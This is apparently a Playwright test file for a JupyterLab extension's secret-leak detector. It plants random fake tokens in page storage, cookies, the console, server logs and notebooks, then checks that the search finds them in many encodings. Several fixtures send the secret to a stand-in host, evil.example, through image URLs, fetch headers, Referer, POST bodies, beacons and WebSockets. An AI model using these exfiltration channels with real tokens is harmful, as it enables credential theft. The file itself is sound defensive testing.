import { randomBytes } from 'node:crypto';
import { appendFile, writeFile } from 'node:fs/promises';

import type { Page } from '@playwright/test';

import { expect, test } from '../../fixtures';
import type { JupyterPage } from '../../pages/jupyterpage';
import { textsOfUndo } from '../../leaks/pagetexts';
import { RecordedBrowser } from '../../leaks/recordedbrowser';
import type { IFinding, ISecret } from '../../leaks/search';
import { findSecrets, inWords } from '../../leaks/search';
import type { Place } from '../../leaks/text';

/** A planted leak. */
interface ILeak<Target> {
  readonly name: string;
  readonly plant: (target: Target, secret: string) => Promise<unknown>;

  /** The only places in which the search must find it. */
  readonly found: readonly Place[];

  /** Whether it is the page's own token. Default: yes. */
  readonly isOfPage?: boolean;
}

/** Leaks in the page, which leave nothing on the server. */
const IN_PAGE: readonly ILeak<Page>[] = [
  inPage('text', 'document', secret => document.body.append(secret)),
  inPage('a comment', 'document', secret =>
    document.append(document.createComment(secret))
  ),
  inPage('a template', 'document', secret => {
    const template = document.createElement('template');
    template.content.append(secret);
    document.body.append(template);
  }),
  inPage('a frame', 'document', secret => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    frame.contentDocument?.body.append(secret);
  }),
  inPage('a custom property of CSS', 'attribute', secret => {
    const element = document.createElement('i');
    element.style.setProperty('--note', `'${CSS.escape(secret)}'`);
    document.body.append(element);
  }),
  inPage('a property of an element', 'property', secret => {
    const note = { of: { the: secret } };
    document.body.append(Object.assign(document.createElement('i'), { note }));
  }),
  inPage('an open shadow root', 'shadow root', secret => {
    const element = document.createElement('div');
    element.attachShadow({ mode: 'open' }).append(secret);
    document.body.append(element);
  }),
  inPage('a closed shadow root', 'shadow root', secret => {
    const element = document.createElement('div');
    element.attachShadow({ mode: 'closed' }).append(secret);
    document.body.append(element);
  }),
  inPage('a field', 'form value', secret => {
    const area = document.createElement('textarea');
    area.hidden = true;
    area.value = secret;
    document.body.append(area);
  }),
  inPage('a style sheet', 'style sheet', secret => {
    const sheet = new CSSStyleSheet();
    sheet.insertRule(`.planted { --note: '${CSS.escape(secret)}' }`);
    document.adoptedStyleSheets.push(sheet);
  }),
  inPage('window.name', 'window.name', secret => (window.name = secret)),
  inPage('the title, for a moment', 'title', secret => {
    const { title } = document;
    document.title = secret;
    document.title = title;
  }),
  inPage('localStorage', 'localStorage', secret => {
    Object.assign(localStorage, { planted: secret });
  }),
  inPage('localStorage, for a moment', 'localStorage', secret => {
    localStorage.setItem('moment', secret);
    localStorage.removeItem('moment');
  }),
  inPage('sessionStorage', 'sessionStorage', secret =>
    sessionStorage.setItem('planted', secret)
  ),
  inPage('IndexedDB, as bytes in an object', 'IndexedDB', secret => {
    const opening = indexedDB.open('planted');
    opening.onupgradeneeded = () => {
      const notes = opening.result.createObjectStore('notes');
      notes.put({ bytes: new TextEncoder().encode(secret) }, 1);
    };
    opening.onsuccess = () => opening.result.close();
  }),
  inPage('Cache Storage', 'Cache Storage', async secret => {
    const cache = await caches.open('planted');
    await cache.put('/planted', new Response(`{"note": "${secret}"}`));
  }),
  inPage('a cookie', 'cookie', secret => {
    document.cookie = `planted=${encodeURIComponent(secret)}; path=/nowhere`;
  }),
  inPage('a cookie, for a moment', 'cookie', secret => {
    document.cookie = `moment=${encodeURIComponent(secret)}; max-age=0`;
  }),
  inPage('the history, as an address', 'history', secret => {
    const { href } = location;
    history.pushState(null, '', `?note=${encodeURIComponent(secret)}`);
    history.pushState(null, '', href);
  }),
  inPage('the history, as a state', 'history', secret =>
    history.replaceState({ note: secret }, '')
  ),
  inPage('the console, deep in an object', 'console', secret =>
    console.debug('planted', { a: { b: [secret] } })
  ),
  inPage('the console, as an error that nobody caught', 'console', secret => {
    setTimeout(() => {
      throw new Error(secret);
    });
  }),
  inPage('the console of a worker', 'console', secret => {
    const code = 'onmessage = ({ data }) => console.info(data)';
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.postMessage(secret);
  }),
  inPage('a message to another origin', 'message', secret => {
    const frame = document.createElement('iframe');
    frame.src = 'http://evil.example/frame';
    frame.onload = () => frame.contentWindow?.postMessage({ secret }, '*');
    document.body.append(frame);
  }),
  inPage('a broadcast', 'message', secret =>
    new BroadcastChannel('planted').postMessage({ secret })
  ),
  inPage('a dialog', 'dialog', secret => alert(secret)),
  inPage('a download', 'download', secret => {
    const link = document.createElement('a');
    link.download = 'planted.txt';
    link.href = URL.createObjectURL(new Blob([secret]));
    link.click();
  }),
  inPage('the address of a picture of another origin', 'URL', secret => {
    new Image().src = `https://evil.example/?${encodeURIComponent(secret)}`;
  }),
  inPage('the host of an address', ['URL', 'header'], secret =>
    fetch(`http://${secret.slice(-20)}.evil.example/`, { mode: 'no-cors' })
  ),
  inPage('the header Authorization, to another origin', 'header', secret =>
    fetch('https://evil.example/', {
      headers: { Authorization: `token ${secret}` }
    })
  ),
  inPage('Referer', 'Referer', secret =>
    fetch('http://evil.example/', {
      mode: 'no-cors',
      referrer: `/?${encodeURIComponent(secret)}`,
      referrerPolicy: 'unsafe-url'
    })
  ),
  inPage('a body', 'body', body =>
    fetch('http://evil.example/', { method: 'POST', body })
  ),
  inPage('a body by https, as a file in a form', 'body', secret => {
    const body = new FormData();
    body.append('file', new Blob([secret]), 'file.bin');
    void fetch('https://evil.example/', { method: 'POST', body });
  }),
  inPage('a beacon', 'body', secret =>
    navigator.sendBeacon('http://evil.example/', new Blob([secret]))
  ),
  inPage('a request of a worker', 'body', secret => {
    const code = `onmessage = ({ data: body }) =>
      fetch('http://evil.example/', { method: 'POST', body })`;
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.postMessage(secret);
  }),
  inPage('a frame of a WebSocket', 'WebSocket', secret => {
    const socket = new WebSocket('ws://evil.example/');
    socket.onopen = () => socket.send(secret.padEnd(1000));
  }),
  inPage('the address of a WebSocket', 'URL', secret => {
    new WebSocket(`ws://evil.example/?${encodeURIComponent(secret)}`);
  }),
  // To the page's own server, which logs the URL of a failed request.
  inPage('the address of a request that fails', ['URL', 'log'], secret =>
    fetch(`/api/contents/nothing-here?note=${encodeURIComponent(secret)}`)
  ),
  inPage('a header', 'header', secret =>
    fetch('/api/status', { headers: { 'X-Note': secret } })
  ),
  {
    ...inPage('a token that is not the page’s', 'header', secret =>
      fetch('/api/status', { headers: { Authorization: `token ${secret}` } })
    ),
    isOfPage: false
  }
];

/** Leaks on the server, which did not come from this browser. */
const ON_SERVER: readonly ILeak<JupyterPage>[] = [
  onServer('a workspace', 'workspace', (jupyter, secret) =>
    jupyter.request('lab/api/workspaces/planted', 'PUT', {
      data: { note: secret },
      metadata: { id: 'planted' }
    })
  ),
  onServer('the settings', 'settings', (jupyter, secret) =>
    jupyter.request('lab/api/settings/jupyterlab-api-token:panel', 'PUT', {
      raw: `{ // ${secret}\n }`
    })
  ),
  onServer('a notebook', 'notebook', async (jupyter, secret) => {
    // The first content is also the first checkpoint.
    await saveNotebook(jupyter, 'planted.ipynb', '');
    await saveNotebook(jupyter, 'planted.ipynb', secret);
  }),
  onServer('a checkpoint', 'checkpoint', async (jupyter, secret) => {
    const name = 'checkpoint.ipynb';
    await saveNotebook(jupyter, name, secret);
    await jupyter.request(`api/contents/${name}/checkpoints`, 'POST');
    await saveNotebook(jupyter, name, '');
  }),
  onServer(
    'another file, beside those that hold the server’s token',
    'file',
    ({ host, user }, secret) => {
      const runtime = `${host.homeOf(user)}/.local/share/jupyter/runtime`;
      return writeFile(`${runtime}/jpserver-1.txt`, secret);
    }
  ),
  onServer('the server’s log', 'log', (jupyter, secret) =>
    jupyter.request(`api/contents/${encodeURIComponent(secret)}`)
  )
];

/** Leaks in the logs of a hub. */
const ON_HUB: readonly ILeak<JupyterPage>[] = [
  onServer('the Hub’s log', 'log', ({ host }, secret) =>
    fetch(`${host.about.url}hub/${encodeURIComponent(secret)}`)
  ),
  onServer('the proxy’s log', 'log', ({ host }, secret) =>
    appendFile(`${host.about.directory}/proxy.log`, secret)
  )
];

/** The forms of a secret, created by the browser's own functions. */
const FORMS: readonly [form: string, write: (secret: string) => string][] = [
  ['as it is', secret => secret],
  ['as it is', secret => secret.toUpperCase()],
  ['percent-encoded', secret => encodeURIComponent(secret)],
  ['percent-encoded', secret => encodeURI(secret)],
  ['percent-encoded', note => new URLSearchParams({ note }).toString()],
  ['percent-encoded', secret => new URL(`?${secret}`, location.href).href],
  [
    'percent-encoded',
    secret => new URL(`?${encodeURIComponent(secret)}`, location.href).href
  ],
  [
    'percent-encoded, every byte',
    secret =>
      Array.from(
        new TextEncoder().encode(secret),
        byte => `%${byte.toString(16).toUpperCase()}`
      ).join('')
  ],
  ['JSON', secret => JSON.stringify({ secret })],
  ['JSON', secret => JSON.stringify(JSON.stringify([secret]))],
  [
    'JSON, percent-encoded',
    secret => encodeURIComponent(JSON.stringify({ secret }))
  ],
  ['HTML', secret => new Option(secret).innerHTML],
  [
    'HTML',
    secret => {
      const element = document.createElement('i');
      element.title = secret;
      return element.outerHTML;
    }
  ],
  ['base64', secret => btoa(secret)],
  ['base64', secret => btoa(`a${secret}b`)],
  ['base64', secret => btoa(`aa${secret}bb`)],
  ['base64', secret => btoa(`aaa${secret}bbb`)],
  ['base64url', secret => btoa(secret).replace(/\+/g, '-').replace(/\//g, '_')],
  ['base64, percent-encoded', secret => encodeURIComponent(btoa(secret))],
  [
    'hex',
    secret =>
      Array.from(secret, each => each.charCodeAt(0).toString(16)).join('')
  ],
  ['reversed', secret => [...secret].reverse().join('')],
  ['a part of it', secret => secret.slice(0, secret.length / 2)],
  ['a part of it', secret => secret.slice(-15)]
];

test.setTimeout(240_000);

test(
  'the search finds a leak in each place',
  { tag: '@leaks' },
  async ({ browser, host, newJupyter, user }) => {
    const recorded = await RecordedBrowser.start(browser, host);
    const jupyter = await newJupyter({ host, context: recorded.context });
    const { page } = jupyter;
    await recorded.open(jupyter);
    const findAll = async (secrets: readonly ISecret[]) => [
      ...(await recorded.findInPage(page, secrets)),
      ...(await recorded.findBehind(secrets))
    ];

    await test.step('before the panel is opened, JupyterLab’s own token is in all places where it may be, except requests to the Hub', async () => {
      const value = jupyter.requestToken;
      const own = { name: 'the page’s token', value, isOfPage: true };
      expect((await findAll([own])).map(inWords)).toEqual([]);
      expect(recorded.unneeded()).toEqual(
        user ? ['the extension asks the Hub with it, which issued it'] : []
      );
    });

    const secrets: ISecret[] = [];
    const expected: Record<string, readonly string[]> = {};
    const plant = async <Target>(
      target: Target,
      leaks: readonly ILeak<Target>[]
    ) => {
      for (const { found, isOfPage = true, name, plant } of leaks) {
        await test.step(name, async () => {
          const value = newSecret();
          secrets.push({ name, value, isOfPage });
          expected[name] = found;
          await plant(target, value);
        });
      }
    };
    await plant(jupyter, ON_SERVER);
    if (user) {
      // Leaks in the page need no hub.
      await plant(jupyter, ON_HUB);
    } else {
      await plant(page, IN_PAGE);
    }
    // Reports and files may be late.
    await expect(async () => {
      const findings = await findAll(secrets);
      expect(placesOf(findings)).toEqual(expected);
      // The description of a leak does not contain the secret.
      const words = findings.map(inWords).join('\n');
      const text = { place: 'document', where: '', text: words } as const;
      expect(findSecrets([text], secrets, () => false)).toEqual([]);
    }).toPass({ timeout: 120_000 });

    await test.step('what undo restores', async () => {
      const secret = { name: 'undo', value: newSecret(), isOfPage: true };
      await jupyter.showPanel();
      const field = jupyter.panel.getByLabel('API path');
      await field.fill(secret.value);
      await field.fill('/api/sessions');
      expect(await recorded.findInPage(page, [secret])).toEqual([]);
      const findings = recorded.find(await textsOfUndo(page), [secret]);
      expect(placesOf(findings)).toEqual({ undo: ['undo history'] });
    });
    await jupyter.cleanUp();
    await recorded.stop();
  }
);

test(
  'the search finds a leak in each encoding',
  { tag: '@lab-newest' },
  async ({ host, page }) => {
    await page.goto(host.about.url);
    for (const [form, write] of FORMS) {
      const secret = { name: 'a secret', value: newSecret(), isOfPage: true };
      const text = `before ${await page.evaluate(write, secret.value)} after`;
      const found = findSecrets(
        [{ place: 'document', where: 'text', text }],
        [secret],
        () => false
      );
      expect(found.map(inWords)).toEqual([`a secret, ${form}: document, text`]);
    }
  }
);

/** A leak by a script in the page. */
function inPage(
  name: string,
  found: Place | readonly Place[],
  plant: (secret: string) => unknown
): ILeak<Page> {
  return {
    name,
    found: [found].flat() as Place[],
    plant: (page, secret) => page.evaluate(plant, secret)
  };
}

function onServer(
  name: string,
  found: Place,
  plant: ILeak<JupyterPage>['plant']
): ILeak<JupyterPage> {
  return { name, found: [found], plant };
}

function saveNotebook(
  jupyter: JupyterPage,
  name: string,
  source: string
): Promise<unknown> {
  const cells = [{ cell_type: 'raw', id: 'a', metadata: {}, source }];
  const content = { cells, metadata: {}, nbformat: 4, nbformat_minor: 5 };
  return jupyter.request(`api/contents/${name}`, 'PUT', {
    type: 'notebook',
    format: 'json',
    content
  });
}

/** The places in which each secret was found, by its name. */
function placesOf(findings: readonly IFinding[]): Record<string, string[]> {
  const places: Record<string, string[]> = {};
  for (const { place, secret } of findings) {
    const known = (places[secret] ??= []);
    if (!known.includes(place)) {
      known.push(place);
    }
  }
  return places;
}

/**
 * A token that looks different in each form, and shares no part with another.
 */
function newSecret(): string {
  return Array.from(
    `=+/&%;'\\"<>?~ !()*`,
    character => character + randomBytes(2).toString('hex')
  )
    .concat(randomBytes(12).toString('hex'), 'zZ')
    .join('');
}
